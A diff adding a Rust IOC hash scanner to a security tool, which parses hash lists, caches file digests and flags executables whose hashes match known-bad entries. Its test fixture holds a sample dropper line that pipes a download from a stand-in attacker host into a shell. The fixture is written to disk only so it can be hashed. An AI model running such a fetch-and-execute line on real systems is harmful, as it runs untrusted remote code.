@@ -0,0 +1,559 @@
+use anyhow::{anyhow, Context, Result};
+use chrono::Local;
+use md5::Md5;
+use serde::{Deserialize, Serialize};
+use sha1::Sha1;
+use sha2::{Digest, Sha256};
+use std::collections::HashMap;
+use std::fs;
+use std::os::unix::fs::MetadataExt;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use walkdir::WalkDir;
+
+use crate::models::{SecurityThreat, ThreatSeverity};
+use crate::scanner::duplicates::read_chunks;
+use crate::scanner::errors::ScanErrors;
+use crate::security::signatures::{
+    default_roots, is_executable_or_script, is_skipped_dir, threat_type, SignatureDatabase,
+};
+
+/// Files larger than this aren't hashed
+const MAX_FILE_SIZE: u64 = 256 * 1024 * 1024;
+
+/// Column names CSV lists use for what a hash belongs to
+const NAME_COLUMNS: &[&str] = &["name", "signature", "malware", "family", "threat", "description"];
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
+pub enum HashAlgorithm {
+    Md5,
+    Sha1,
+    Sha256,
+}
+
+impl HashAlgorithm {
+    pub fn name(&self) -> &'static str {
+        match self {
+            Self::Md5 => "MD5",
+            Self::Sha1 => "SHA-1",
+            Self::Sha256 => "SHA-256",
+        }
+    }
+
+    /// The algorithm a hex digest of this length comes from
+    fn of_digest(hex: &str) -> Option<Self> {
+        if !hex.chars().all(|c| c.is_ascii_hexdigit()) {
+            return None;
+        }
+        match hex.len() {
+            32 => Some(Self::Md5),
+            40 => Some(Self::Sha1),
+            64 => Some(Self::Sha256),
+            _ => None,
+        }
+    }
+}
+
+/// The hash of a known-bad file, an indicator of compromise
+#[derive(Debug, Clone)]
+pub struct Ioc {
+    pub algorithm: HashAlgorithm,
+    /// Lowercase hex digest
+    pub hash: String,
+    pub name: String,
+    pub severity: ThreatSeverity,
+    /// The list or database it came from
+    pub source: String,
+}
+
+impl Ioc {
+    /// Fails unless `hash` is an MD5, SHA-1 or SHA-256 hex digest
+    pub fn new(hash: &str, name: &str, severity: ThreatSeverity, source: &str) -> Result<Self> {
+        let hash = hash.trim().to_lowercase();
+        let algorithm = HashAlgorithm::of_digest(&hash)
+            .ok_or_else(|| anyhow!("'{}' is not an MD5, SHA-1 or SHA-256 digest", hash))?;
+        Ok(Self {
+            algorithm,
+            hash,
+            name: name.to_string(),
+            severity,
+            source: source.to_string(),
+        })
+    }
+
+    fn threat(&self, path: &Path) -> SecurityThreat {
+        SecurityThreat {
+            path: path.to_path_buf(),
+            threat_type: threat_type(path),
+            severity: self.severity,
+            description: format!(
+                "{}: {} {} listed in {}",
+                self.name,
+                self.algorithm.name(),
+                self.hash,
+                self.source
+            ),
+            detected_at: Local::now(),
+            signature_id: format!("ioc:{}", self.hash),
+            remediation: None,
+            fix_mode: None,
+        }
+    }
+}
+
+/// Hashes to look for, from the signature database's `hashes` and local lists
+#[derive(Debug, Default)]
+pub struct IocList {
+    iocs: HashMap<String, Ioc>,
+}
+
+impl IocList {
+    /// The database's hashes plus every list in `~/.config/surge/ioc`
+    pub fn load(database: &SignatureDatabase) -> Result<Self> {
+        let mut list = Self::default();
+        for ioc in &database.hashes {
+            list.insert(ioc.clone());
+        }
+
+        let Some(dir) = dirs::config_dir().map(|config| config.join("surge/ioc")) else {
+            return Ok(list);
+        };
+        if dir.is_dir() {
+            let mut files: Vec<PathBuf> = fs::read_dir(&dir)
+                .with_context(|| format!("Failed to read {}", dir.display()))?
+                .filter_map(|e| e.ok())
+                .map(|e| e.path())
+                .filter(|p| p.is_file())
+                .collect();
+            files.sort();
+            for file in files {
+                list.load_file(&file)?;
+            }
+        }
+        Ok(list)
+    }
+
+    /// Add the hashes of a plain text list, or a CSV one if it ends in `.csv`
+    pub fn load_file(&mut self, path: &Path) -> Result<()> {
+        let contents = fs::read_to_string(path)
+            .with_context(|| format!("Failed to read {}", path.display()))?;
+        let source = path.file_name().map_or_else(
+            || path.display().to_string(),
+            |name| name.to_string_lossy().to_string(),
+        );
+        let is_csv = path
+            .extension()
+            .is_some_and(|ext| ext.eq_ignore_ascii_case("csv"));
+        let iocs = if is_csv {
+            parse_csv(&contents, &source)
+        } else {
+            parse_text(&contents, &source)
+        };
+        for ioc in iocs {
+            self.insert(ioc);
+        }
+        Ok(())
+    }
+
+    /// A hash listed twice keeps its most severe entry
+    fn insert(&mut self, ioc: Ioc) {
+        match self.iocs.get(&ioc.hash) {
+            Some(existing) if existing.severity >= ioc.severity => {}
+            _ => {
+                self.iocs.insert(ioc.hash.clone(), ioc);
+            }
+        }
+    }
+
+    pub fn len(&self) -> usize {
+        self.iocs.len()
+    }
+
+    pub fn is_empty(&self) -> bool {
+        self.iocs.is_empty()
+    }
+
+    /// Algorithms files have to be hashed with
+    fn algorithms(&self) -> Vec<HashAlgorithm> {
+        [HashAlgorithm::Md5, HashAlgorithm::Sha1, HashAlgorithm::Sha256]
+            .into_iter()
+            .filter(|algorithm| self.iocs.values().any(|ioc| ioc.algorithm == *algorithm))
+            .collect()
+    }
+
+    fn lookup(&self, hashes: &CachedHashes) -> Option<&Ioc> {
+        [&hashes.sha256, &hashes.sha1, &hashes.md5]
+            .into_iter()
+            .flatten()
+            .find_map(|hash| self.iocs.get(hash))
+    }
+}
+
+/// One hash per line, optionally followed by a name as in `sha256sum` output.
+/// `#` starts a comment; lines without a hash are skipped.
+fn parse_text(contents: &str, source: &str) -> Vec<Ioc> {
+    let mut iocs = Vec::new();
+    for line in contents.lines() {
+        let line = line.split('#').next().unwrap_or_default().trim();
+        let mut parts = line.splitn(2, char::is_whitespace);
+        let Some(hash) = parts.next() else { continue };
+        // `sha256:<hex>` as some feeds write them
+        let hash = hash.rsplit(':').next().unwrap_or(hash);
+        let name = parts.next().map(|n| n.trim().trim_start_matches('*')).unwrap_or_default();
+        let name = if name.is_empty() { source } else { name };
+        if let Ok(ioc) = Ioc::new(hash, name, ThreatSeverity::Critical, source) {
+            iocs.push(ioc);
+        }
+    }
+    iocs
+}
+
+/// Every field holding a hash is an indicator; the name comes from a column
+/// like `signature` or `name` when the header has one. Commented headers
+/// (`# "sha256_hash","signature"`) are read too.
+fn parse_csv(contents: &str, source: &str) -> Vec<Ioc> {
+    let mut iocs = Vec::new();
+    let mut name_column = None;
+
+    for line in contents.lines() {
+        let fields = csv_fields(line.trim_start().trim_start_matches('#'));
+        let hashes: Vec<&String> = fields
+            .iter()
+            .filter(|f| HashAlgorithm::of_digest(f).is_some())
+            .collect();
+
+        if hashes.is_empty() {
+            if name_column.is_none() {
+                name_column = fields.iter().position(|f| {
+                    let column = f.to_lowercase();
+                    NAME_COLUMNS.iter().any(|name| column.contains(name))
+                });
+            }
+            continue;
+        }
+
+        let name = name_column
+            .and_then(|column| fields.get(column))
+            .map(|name| name.as_str())
+            .filter(|name| !name.is_empty() && *name != "n/a")
+            .unwrap_or(source);
+        for hash in hashes {
+            if let Ok(ioc) = Ioc::new(hash, name, ThreatSeverity::Critical, source) {
+                iocs.push(ioc);
+            }
+        }
+    }
+    iocs
+}
+
+/// Fields of a CSV line, unquoted
+fn csv_fields(line: &str) -> Vec<String> {
+    let mut fields = Vec::new();
+    let mut field = String::new();
+    let mut quoted = false;
+    let mut chars = line.chars().peekable();
+
+    while let Some(c) = chars.next() {
+        match c {
+            '"' if quoted && chars.peek() == Some(&'"') => {
+                field.push('"');
+                chars.next();
+            }
+            '"' => quoted = !quoted,
+            ',' if !quoted => fields.push(std::mem::take(&mut field).trim().to_string()),
+            _ => field.push(c),
+        }
+    }
+    fields.push(field.trim().to_string());
+    fields
+}
+
+/// Digests of a file as it was when hashed
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+struct CachedHashes {
+    size: u64,
+    inode: u64,
+    /// Change time in nanoseconds; any write or chmod moves it
+    changed: i128,
+    md5: Option<String>,
+    sha1: Option<String>,
+    sha256: Option<String>,
+}
+
+impl CachedHashes {
+    fn get(&self, algorithm: HashAlgorithm) -> Option<&String> {
+        match algorithm {
+            HashAlgorithm::Md5 => self.md5.as_ref(),
+            HashAlgorithm::Sha1 => self.sha1.as_ref(),
+            HashAlgorithm::Sha256 => self.sha256.as_ref(),
+        }
+    }
+
+    fn is_current(&self, metadata: &fs::Metadata) -> bool {
+        self.size == metadata.len() && self.inode == metadata.ino() && self.changed == changed(metadata)
+    }
+}
+
+fn changed(metadata: &fs::Metadata) -> i128 {
+    metadata.ctime() as i128 * 1_000_000_000 + metadata.ctime_nsec() as i128
+}
+
+/// Digests of files hashed by earlier scans, reused while the file is
+/// unchanged so a rescan only reads what's new
+struct HashCache {
+    file: PathBuf,
+    entries: HashMap<PathBuf, CachedHashes>,
+}
+
+impl HashCache {
+    /// A missing or unreadable cache starts empty
+    fn load_from(file: PathBuf) -> Self {
+        let entries = fs::read_to_string(&file)
+            .ok()
+            .and_then(|json| serde_json::from_str(&json).ok())
+            .unwrap_or_default();
+        Self { file, entries }
+    }
+
+    /// Digests of `path` with `algorithms`, hashing only what isn't cached
+    fn hashes(
+        &mut self,
+        path: &Path,
+        metadata: &fs::Metadata,
+        algorithms: &[HashAlgorithm],
+    ) -> Result<&CachedHashes> {
+        let cached = self
+            .entries
+            .get(path)
+            .filter(|cached| cached.is_current(metadata))
+            .cloned()
+            .unwrap_or_else(|| CachedHashes {
+                size: metadata.len(),
+                inode: metadata.ino(),
+                changed: changed(metadata),
+                ..Default::default()
+            });
+        let missing = |algorithm: HashAlgorithm| algorithms.contains(&algorithm) && cached.get(algorithm).is_none();
+
+        let mut md5 = missing(HashAlgorithm::Md5).then(Md5::new);
+        let mut sha1 = missing(HashAlgorithm::Sha1).then(Sha1::new);
+        let mut sha256 = missing(HashAlgorithm::Sha256).then(Sha256::new);
+        let mut cached = cached;
+        if md5.is_some() || sha1.is_some() || sha256.is_some() {
+            read_chunks(path, |chunk| {
+                md5.iter_mut().for_each(|h| h.update(chunk));
+                sha1.iter_mut().for_each(|h| h.update(chunk));
+                sha256.iter_mut().for_each(|h| h.update(chunk));
+            })?;
+            if let Some(h) = md5 {
+                cached.md5 = Some(format!("{:x}", h.finalize()));
+            }
+            if let Some(h) = sha1 {
+                cached.sha1 = Some(format!("{:x}", h.finalize()));
+            }
+            if let Some(h) = sha256 {
+                cached.sha256 = Some(format!("{:x}", h.finalize()));
+            }
+        }
+        Ok(self.entries.entry(path.to_path_buf()).insert_entry(cached).into_mut())
+    }
+
+    /// Write the cache back, forgetting files that are gone
+    fn save(&mut self) -> Result<()> {
+        self.entries.retain(|path, _| path.exists());
+        if let Some(parent) = self.file.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        fs::write(&self.file, serde_json::to_string(&self.entries)?)
+            .with_context(|| format!("Failed to write {}", self.file.display()))
+    }
+}
+
+/// Hashes executables and scripts under the scan roots and reports the ones
+/// on an IOC list
+pub struct IocScanner {
+    iocs: Arc<IocList>,
+    roots: Vec<PathBuf>,
+    max_depth: usize,
+    cache_file: Option<PathBuf>,
+    errors: ScanErrors,
+}
+
+impl IocScanner {
+    pub fn new(iocs: Arc<IocList>) -> Self {
+        Self {
+            iocs,
+            roots: default_roots(),
+            max_depth: 6,
+            cache_file: dirs::cache_dir().map(|cache| cache.join("surge/hash-cache.json")),
+            errors: ScanErrors::new(),
+        }
+    }
+
+    pub fn with_roots(mut self, roots: Vec<PathBuf>) -> Self {
+        self.roots = roots;
+        self
+    }
+
+    #[cfg(test)]
+    fn with_cache_file(mut self, file: PathBuf) -> Self {
+        self.cache_file = Some(file);
+        self
+    }
+
+    /// Where paths the scan had to skip are recorded
+    pub fn with_errors(mut self, errors: ScanErrors) -> Self {
+        self.errors = errors;
+        self
+    }
+
+    pub fn scan(&self) -> Result<Vec<SecurityThreat>> {
+        if self.iocs.is_empty() {
+            return Ok(Vec::new());
+        }
+        let algorithms = self.iocs.algorithms();
+        let cache_file = self.cache_file.clone().unwrap_or_default();
+        let mut cache = HashCache::load_from(cache_file);
+        let mut threats = Vec::new();
+
+        for root in &self.roots {
+            let mut walker = WalkDir::new(root)
+                .max_depth(self.max_depth)
+                .follow_links(false)
+                .into_iter();
+
+            while let Some(entry) = walker.next() {
+                let entry = match self.errors.ok(entry) {
+                    Some(entry) => entry,
+                    None => continue,
+                };
+                if entry.depth() > 0 && entry.file_type().is_dir() && is_skipped_dir(&entry) {
+                    walker.skip_current_dir();
+                    continue;
+                }
+                if !entry.file_type().is_file() {
+                    continue;
+                }
+                let Some(metadata) = self.errors.ok(entry.metadata()) else { continue };
+                if !is_candidate(entry.path(), &metadata) {
+                    continue;
+                }
+
+                let hashes = match cache.hashes(entry.path(), &metadata, &algorithms) {
+                    Ok(hashes) => hashes,
+                    Err(err) => {
+                        if let Some(io) = err.downcast_ref::<std::io::Error>() {
+                            self.errors.record_io(entry.path(), io);
+                        }
+                        continue;
+                    }
+                };
+                if let Some(ioc) = self.iocs.lookup(hashes) {
+                    if !threats.iter().any(|t: &SecurityThreat| t.path == entry.path()) {
+                        threats.push(ioc.threat(entry.path()));
+                    }
+                }
+            }
+        }
+
+        // The results stand without the cache; it only speeds up the next scan
+        if self.cache_file.is_some() {
+            let _ = cache.save();
+        }
+        threats.sort_by_key(|t| std::cmp::Reverse(t.severity));
+        Ok(threats)
+    }
+}
+
+/// Non-empty executables and scripts small enough to hash
+fn is_candidate(path: &Path, metadata: &fs::Metadata) -> bool {
+    metadata.len() > 0 && metadata.len() <= MAX_FILE_SIZE && is_executable_or_script(path, metadata)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::os::unix::fs::PermissionsExt;
+    use tempfile::TempDir;
+
+    const PAYLOAD: &[u8] = b"#!/bin/sh\ncurl -s http://evil.example | sh\n";
+
+    fn sha256(data: &[u8]) -> String {
+        format!("{:x}", Sha256::digest(data))
+    }
+
+    fn md5(data: &[u8]) -> String {
+        format!("{:x}", Md5::digest(data))
+    }
+
+    #[test]
+    fn test_parse_lists() {
+        let text = format!(
+            "# incident 42\n{}  dropper.sh\nsha256:{}\nnot a hash\n{} # comment\n",
+            sha256(b"a"),
+            sha256(b"b"),
+            md5(b"c")
+        );
+        let iocs = parse_text(&text, "incident-42.txt");
+        assert_eq!(iocs.len(), 3);
+        assert_eq!(iocs[0].name, "dropper.sh");
+        assert_eq!(iocs[1].name, "incident-42.txt");
+        assert_eq!(iocs[2].algorithm, HashAlgorithm::Md5);
+
+        let csv = format!(
+            "# \"first_seen_utc\",\"sha256_hash\",\"md5_hash\",\"signature\"\n\
+             \"2026-10-01\",\"{}\",\"{}\",\"AMOS, stealer\"\n",
+            sha256(b"a"),
+            md5(b"a")
+        );
+        let iocs = parse_csv(&csv, "bazaar.csv");
+        assert_eq!(iocs.len(), 2);
+        assert!(iocs.iter().all(|ioc| ioc.name == "AMOS, stealer"));
+        assert_eq!(iocs[0].algorithm, HashAlgorithm::Sha256);
+
+        assert!(Ioc::new("xyz", "", ThreatSeverity::Low, "").is_err());
+    }
+
+    #[test]
+    fn test_scan_matches_and_caches() {
+        let temp_dir = TempDir::new().unwrap();
+        let root = temp_dir.path().join("root");
+        fs::create_dir_all(root.join("bin")).unwrap();
+        let dropper = root.join("bin/update");
+        fs::write(&dropper, PAYLOAD).unwrap();
+        fs::set_permissions(&dropper, fs::Permissions::from_mode(0o755)).unwrap();
+        // Same content, but neither executable nor a script
+        fs::write(root.join("notes.txt"), PAYLOAD).unwrap();
+        fs::write(root.join("install.sh"), b"echo hello\n").unwrap();
+
+        let list = temp_dir.path().join("iocs.txt");
+        fs::write(&list, format!("{}\n{}\n", sha256(PAYLOAD), md5(b"unrelated"))).unwrap();
+        let mut iocs = IocList::default();
+        iocs.load_file(&list).unwrap();
+        assert_eq!(iocs.algorithms(), vec![HashAlgorithm::Md5, HashAlgorithm::Sha256]);
+
+        let cache_file = temp_dir.path().join("cache/hash-cache.json");
+        let scanner = IocScanner::new(Arc::new(iocs))
+            .with_roots(vec![root.clone()])
+            .with_cache_file(cache_file.clone());
+        let threats = scanner.scan().unwrap();
+        assert_eq!(threats.len(), 1);
+        assert_eq!(threats[0].path, dropper);
+        assert_eq!(threats[0].severity, ThreatSeverity::Critical);
+        assert_eq!(threats[0].signature_id, format!("ioc:{}", sha256(PAYLOAD)));
+
+        // Both candidates are cached; a cached digest is used while the file is unchanged
+        let mut cache = HashCache::load_from(cache_file.clone());
+        assert_eq!(cache.entries.len(), 2);
+        assert!(cache.entries[&dropper].sha1.is_none());
+        cache.entries.get_mut(&dropper).unwrap().sha256 = Some("stale".to_string());
+        cache.save().unwrap();
+        assert!(scanner.scan().unwrap().is_empty());
+
+        // A rewrite changes the inode or change time, so it's hashed again
+        fs::remove_file(&dropper).unwrap();
+        fs::write(&dropper, PAYLOAD).unwrap();
+        fs::set_permissions(&dropper, fs::Permissions::from_mode(0o755)).unwrap();
+        assert_eq!(scanner.scan().unwrap().len(), 1);
+    }
+}